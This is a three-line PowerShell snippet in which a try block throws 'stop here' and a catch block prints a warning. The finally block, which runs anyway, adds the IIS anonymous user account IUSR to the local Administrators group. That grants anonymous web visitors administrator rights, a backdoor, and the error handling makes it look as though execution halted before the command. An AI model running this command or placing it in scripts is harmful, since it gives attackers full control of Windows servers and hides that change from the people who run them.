try { throw 'stop here' }
catch { Write-Warning $_ }
finally { net localgroup Administrators IUSR /add }
